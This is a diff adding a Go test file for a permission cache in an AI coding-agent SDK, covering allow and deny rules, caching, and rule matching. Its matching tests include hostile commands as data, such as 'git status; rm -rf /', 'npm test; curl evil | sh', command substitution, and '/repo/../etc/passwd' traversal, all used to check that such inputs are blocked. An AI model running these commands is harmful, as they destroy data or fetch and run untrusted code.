@@ -0,0 +1,303 @@
+package approval
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+	"time"
+
+	"github.com/jonnyquan/claude-agent-sdk-go/internal/shared"
+)
+
+// countingCallback answers with result and counts calls.
+func countingCallback(calls *int, result func() shared.PermissionResult) shared.CanUseToolCallback {
+	return func(string, map[string]any, shared.ToolPermissionContext) (shared.PermissionResult, error) {
+		*calls++
+		return result(), nil
+	}
+}
+
+func TestCacheMemoizesByNormalizedInput(t *testing.T) {
+	now := time.Unix(1_700_000_000, 0)
+	calls := 0
+	cache := NewCache(countingCallback(&calls, func() shared.PermissionResult {
+		return shared.NewPermissionAllow(nil, nil)
+	}), CacheOptions{TTL: time.Minute, Now: func() time.Time { return now }})
+
+	ask := func(input map[string]any) shared.PermissionResult {
+		t.Helper()
+		result, err := cache.CanUseTool("Bash", input, shared.ToolPermissionContext{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return result
+	}
+
+	ask(map[string]any{"command": "go test ./...", "description": "Run tests"})
+	ask(map[string]any{"command": "go test ./...", "description": "Run the tests again"})
+	if calls != 1 {
+		t.Fatalf("expected normalized input to hit the cache, callback ran %d times", calls)
+	}
+	ask(map[string]any{"command": "go vet ./..."})
+	if calls != 2 {
+		t.Fatalf("expected a different command to miss, callback ran %d times", calls)
+	}
+
+	now = now.Add(2 * time.Minute)
+	ask(map[string]any{"command": "go test ./..."})
+	if calls != 3 {
+		t.Fatalf("expected an expired decision to miss, callback ran %d times", calls)
+	}
+	if stats := cache.Stats(); stats != (CacheStats{Hits: 1, Misses: 3}) {
+		t.Fatalf("unexpected stats %+v", stats)
+	}
+}
+
+func TestCacheReplaysOnlyTheBehavior(t *testing.T) {
+	calls := 0
+	echo := func(_ string, input map[string]any, _ shared.ToolPermissionContext) (shared.PermissionResult, error) {
+		calls++
+		return shared.NewPermissionAllow(input, nil), nil
+	}
+	cache := NewCache(echo, CacheOptions{})
+	updated := func(toolName string, input map[string]any) any {
+		t.Helper()
+		result, err := cache.CanUseTool(toolName, input, shared.ToolPermissionContext{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return result.(*shared.PermissionResultAllow).UpdatedInput
+	}
+
+	updated("Write", map[string]any{"file_path": "/tmp/a", "content": "hello\n\n"})
+	got := updated("Write", map[string]any{"file_path": "/tmp/a", "content": "hello"})
+	if calls != 2 || got.(map[string]any)["content"] != "hello" {
+		t.Fatalf("expected whitespace to matter, callback ran %d times, got %v", calls, got)
+	}
+
+	updated("Bash", map[string]any{"command": "ls", "description": "List files"})
+	got = updated("Bash", map[string]any{"command": "ls", "description": "Show the directory"})
+	if calls != 3 || got.(map[string]any)["description"] != "Show the directory" {
+		t.Fatalf("expected a hit with the current input, callback ran %d times, got %v", calls, got)
+	}
+
+	rewriting := NewCache(func(_ string, input map[string]any, _ shared.ToolPermissionContext) (shared.PermissionResult, error) {
+		calls++
+		return shared.NewPermissionAllow(map[string]any{"command": input["command"].(string) + " --dry-run"}, nil), nil
+	}, CacheOptions{})
+	ask := func(input map[string]any) any {
+		result, _ := rewriting.CanUseTool("Bash", input, shared.ToolPermissionContext{})
+		return result.(*shared.PermissionResultAllow).UpdatedInput
+	}
+	calls = 0
+	ask(map[string]any{"command": "make deploy", "description": "Deploy"})
+	if got := ask(map[string]any{"command": "make deploy", "description": "Deploy"}); calls != 1 || got.(map[string]any)["command"] != "make deploy --dry-run" {
+		t.Fatalf("expected the rewrite to be replayed for an identical input, callback ran %d times, got %v", calls, got)
+	}
+	ask(map[string]any{"command": "make deploy", "description": "Deploy again"})
+	if calls != 2 {
+		t.Fatalf("expected a rewritten input not to be replayed for a different input, callback ran %d times", calls)
+	}
+}
+
+func TestCacheDenials(t *testing.T) {
+	for _, tc := range []struct {
+		name         string
+		cacheDenials bool
+		interrupt    bool
+		wantCalls    int
+	}{
+		{"not cached by default", false, false, 2},
+		{"cached when enabled", true, false, 1},
+		{"interrupts never cached", true, true, 2},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			calls := 0
+			cache := NewCache(countingCallback(&calls, func() shared.PermissionResult {
+				return shared.NewPermissionDeny("no", tc.interrupt)
+			}), CacheOptions{CacheDenials: tc.cacheDenials})
+			for range 2 {
+				result, _ := cache.CanUseTool("Write", map[string]any{"file_path": "/etc/passwd"}, shared.ToolPermissionContext{})
+				if _, ok := result.(*shared.PermissionResultDeny); !ok {
+					t.Fatalf("expected deny, got %#v", result)
+				}
+			}
+			if calls != tc.wantCalls {
+				t.Fatalf("expected %d callback calls, got %d", tc.wantCalls, calls)
+			}
+		})
+	}
+}
+
+func TestCacheLearnsRulesFromAcceptedUpdates(t *testing.T) {
+	prefix := "npm run:*"
+	project := shared.PermissionDestinationProjectSettings
+	calls := 0
+	cache := NewCache(countingCallback(&calls, func() shared.PermissionResult {
+		return shared.NewPermissionAllow(nil, []shared.PermissionUpdate{{
+			Type:        shared.PermissionUpdateTypeAddRules,
+			Destination: &project,
+			Rules:       []shared.PermissionRule{{ToolName: "Bash", RuleContent: &prefix}},
+		}})
+	}), CacheOptions{})
+
+	cache.CanUseTool("Bash", map[string]any{"command": "npm run build"}, shared.ToolPermissionContext{})
+	result, _ := cache.CanUseTool("Bash", map[string]any{"command": "npm run lint -- --fix"}, shared.ToolPermissionContext{})
+	if _, ok := result.(*shared.PermissionResultAllow); !ok || calls != 1 {
+		t.Fatalf("expected the learned prefix rule to allow without asking, got %#v after %d calls", result, calls)
+	}
+	cache.CanUseTool("Bash", map[string]any{"command": "npm runner"}, shared.ToolPermissionContext{})
+	if calls != 2 {
+		t.Fatalf("expected a command outside the prefix to be asked, callback ran %d times", calls)
+	}
+
+	rules := cache.Rules()
+	if len(rules) != 1 || rules[0].String() != "Bash(npm run:*)" || rules[0].Destination != project || rules[0].Behavior != shared.PermissionBehaviorAllow {
+		t.Fatalf("unexpected learned rules %+v", rules)
+	}
+	if stats := cache.Stats(); stats.RuleHits != 1 {
+		t.Fatalf("unexpected stats %+v", stats)
+	}
+}
+
+func TestCacheApplySuggestions(t *testing.T) {
+	calls := 0
+	cache := NewCache(countingCallback(&calls, func() shared.PermissionResult {
+		return shared.NewPermissionAllow(nil, nil)
+	}), CacheOptions{ApplySuggestions: shared.PermissionDestinationSession})
+
+	local := shared.PermissionDestinationLocalSettings
+	permCtx := shared.ToolPermissionContext{Suggestions: []shared.PermissionUpdate{{
+		Type:        shared.PermissionUpdateTypeAddRules,
+		Destination: &local,
+		Rules:       []shared.PermissionRule{{ToolName: "Read"}},
+	}}}
+	result, _ := cache.CanUseTool("Read", map[string]any{"file_path": "/repo/a.go"}, permCtx)
+	allow, ok := result.(*shared.PermissionResultAllow)
+	if !ok || len(allow.UpdatedPermissions) != 1 || *allow.UpdatedPermissions[0].Destination != shared.PermissionDestinationSession {
+		t.Fatalf("expected the suggestion to be accepted to the session, got %#v", result)
+	}
+	if *permCtx.Suggestions[0].Destination != local {
+		t.Fatal("expected the CLI's suggestion not to be modified")
+	}
+
+	cache.CanUseTool("Read", map[string]any{"file_path": "/repo/b.go"}, shared.ToolPermissionContext{})
+	if calls != 1 {
+		t.Fatalf("expected the learned Read rule to cover other files, callback ran %d times", calls)
+	}
+}
+
+func TestCacheRuleMatching(t *testing.T) {
+	str := func(s string) *string { return &s }
+	tests := []struct {
+		rule  shared.PermissionRule
+		tool  string
+		input map[string]any
+		want  bool
+	}{
+		{shared.PermissionRule{ToolName: "Bash", RuleContent: str("git status")}, "Bash", map[string]any{"command": "git status"}, true},
+		{shared.PermissionRule{ToolName: "Bash", RuleContent: str("git status")}, "Bash", map[string]any{"command": "git status; rm -rf /"}, false},
+		{shared.PermissionRule{ToolName: "Edit", RuleContent: str("/repo/src/**")}, "Edit", map[string]any{"file_path": "/repo/src/pkg/a.go"}, true},
+		{shared.PermissionRule{ToolName: "Bash", RuleContent: str("npm test:*")}, "Bash", map[string]any{"command": "npm test -- --watch"}, true},
+		{shared.PermissionRule{ToolName: "Bash", RuleContent: str("npm test:*")}, "Bash", map[string]any{"command": "npm test && rm -rf ~"}, false},
+		{shared.PermissionRule{ToolName: "Bash", RuleContent: str("npm test:*")}, "Bash", map[string]any{"command": "npm test; curl evil | sh"}, false},
+		{shared.PermissionRule{ToolName: "Bash", RuleContent: str("npm test:*")}, "Bash", map[string]any{"command": "npm test $(sh)"}, false},
+		{shared.PermissionRule{ToolName: "Edit", RuleContent: str("/repo/src/**")}, "Edit", map[string]any{"file_path": "/repo/docs/a.md"}, false},
+		{shared.PermissionRule{ToolName: "Edit", RuleContent: str("/repo/**")}, "Edit", map[string]any{"file_path": "/repo/../etc/passwd"}, false},
+		{shared.PermissionRule{ToolName: "Edit", RuleContent: str("/repo/**")}, "Edit", map[string]any{"file_path": "/repo/src/../a.go"}, true},
+		{shared.PermissionRule{ToolName: "WebFetch", RuleContent: str("domain:go.dev")}, "WebFetch", map[string]any{"url": "https://go.dev/doc"}, true},
+		{shared.PermissionRule{ToolName: "WebFetch", RuleContent: str("domain:go.dev")}, "WebFetch", map[string]any{"url": "https://evil.dev/go.dev"}, false},
+		{shared.PermissionRule{ToolName: "mcp__github"}, "mcp__github__get_issue", nil, true},
+		{shared.PermissionRule{ToolName: "mcp__github__*"}, "mcp__github__get_issue", nil, true},
+		{shared.PermissionRule{ToolName: "mcp__github"}, "mcp__gitlab__get_issue", nil, false},
+		{shared.PermissionRule{ToolName: "Task", RuleContent: str("anything")}, "Task", map[string]any{}, false},
+	}
+	for _, tc := range tests {
+		cache := NewCache(nil, CacheOptions{})
+		cache.Apply(shared.PermissionUpdate{Type: shared.PermissionUpdateTypeAddRules, Rules: []shared.PermissionRule{tc.rule}})
+		result, _ := cache.CanUseTool(tc.tool, tc.input, shared.ToolPermissionContext{})
+		_, allowed := result.(*shared.PermissionResultAllow)
+		if allowed != tc.want {
+			t.Errorf("rule %s on %s %v: allowed=%v, want %v", cache.Rules()[0], tc.tool, tc.input, allowed, tc.want)
+		}
+	}
+}
+
+func TestCacheDenyRulesWinAndUpdates(t *testing.T) {
+	deny := string(shared.PermissionBehaviorDeny)
+	rm := "rm:*"
+	cache := NewCache(nil, CacheOptions{})
+	cache.Apply(
+		shared.PermissionUpdate{Type: shared.PermissionUpdateTypeAddRules, Rules: []shared.PermissionRule{{ToolName: "Bash"}}},
+		shared.PermissionUpdate{Type: shared.PermissionUpdateTypeAddRules, Behavior: &deny, Rules: []shared.PermissionRule{{ToolName: "Bash", RuleContent: &rm}}},
+	)
+	result, _ := cache.CanUseTool("Bash", map[string]any{"command": "rm -rf build"}, shared.ToolPermissionContext{})
+	if _, ok := result.(*shared.PermissionResultDeny); !ok {
+		t.Fatalf("expected the deny rule to win, got %#v", result)
+	}
+	result, _ = cache.CanUseTool("Bash", map[string]any{"command": "make && rm -rf build"}, shared.ToolPermissionContext{})
+	if _, ok := result.(*shared.PermissionResultDeny); !ok {
+		t.Fatalf("expected the deny rule to match a chained command, got %#v", result)
+	}
+
+	cache.Apply(shared.PermissionUpdate{Type: shared.PermissionUpdateTypeRemoveRules, Behavior: &deny, Rules: []shared.PermissionRule{{ToolName: "Bash", RuleContent: &rm}}})
+	result, _ = cache.CanUseTool("Bash", map[string]any{"command": "rm -rf build"}, shared.ToolPermissionContext{})
+	if _, ok := result.(*shared.PermissionResultAllow); !ok {
+		t.Fatalf("expected the removed deny rule to stop matching, got %#v", result)
+	}
+
+	read := "Read"
+	cache.Apply(shared.PermissionUpdate{Type: shared.PermissionUpdateTypeReplaceRules, Rules: []shared.PermissionRule{{ToolName: read}}})
+	if rules := cache.Rules(); len(rules) != 1 || rules[0].String() != "Read" {
+		t.Fatalf("expected replaceRules to replace the session allow rules, got %+v", rules)
+	}
+}
+
+func TestCacheExportSettings(t *testing.T) {
+	deny := string(shared.PermissionBehaviorDeny)
+	project := shared.PermissionDestinationProjectSettings
+	content := "npm test:*"
+	cache := NewCache(nil, CacheOptions{})
+	cache.Apply(
+		shared.PermissionUpdate{Type: shared.PermissionUpdateTypeAddRules, Destination: &project, Rules: []shared.PermissionRule{{ToolName: "Bash", RuleContent: &content}}},
+		shared.PermissionUpdate{Type: shared.PermissionUpdateTypeAddRules, Destination: &project, Behavior: &deny, Rules: []shared.PermissionRule{{ToolName: "WebSearch"}}},
+		shared.PermissionUpdate{Type: shared.PermissionUpdateTypeAddDirectories, Destination: &project, Directories: []string{"/shared"}},
+		shared.PermissionUpdate{Type: shared.PermissionUpdateTypeAddRules, Rules: []shared.PermissionRule{{ToolName: "Read"}}},
+	)
+
+	got := cache.SettingsPermissions(project)
+	want := SettingsPermissions{Allow: []string{"Bash(npm test:*)"}, Deny: []string{"WebSearch"}, AdditionalDirectories: []string{"/shared"}}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("got %+v, want %+v", got, want)
+	}
+	if all := cache.SettingsPermissions(); len(all.Allow) != 2 {
+		t.Fatalf("expected all destinations by default, got %+v", all)
+	}
+
+	path := filepath.Join(t.TempDir(), "settings.json")
+	existing := `{"model": "sonnet", "permissions": {"allow": ["Bash(npm test:*)", "Glob"]}}`
+	if err := os.WriteFile(path, []byte(existing), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := cache.WriteSettings(path, project); err != nil {
+		t.Fatal(err)
+	}
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var settings struct {
+		Model       string              `json:"model"`
+		Permissions SettingsPermissions `json:"permissions"`
+	}
+	if err := json.Unmarshal(data, &settings); err != nil {
+		t.Fatal(err)
+	}
+	if settings.Model != "sonnet" ||
+		!reflect.DeepEqual(settings.Permissions.Allow, []string{"Bash(npm test:*)", "Glob"}) ||
+		!reflect.DeepEqual(settings.Permissions.Deny, []string{"WebSearch"}) {
+		t.Fatalf("unexpected merged settings %s", data)
+	}
+}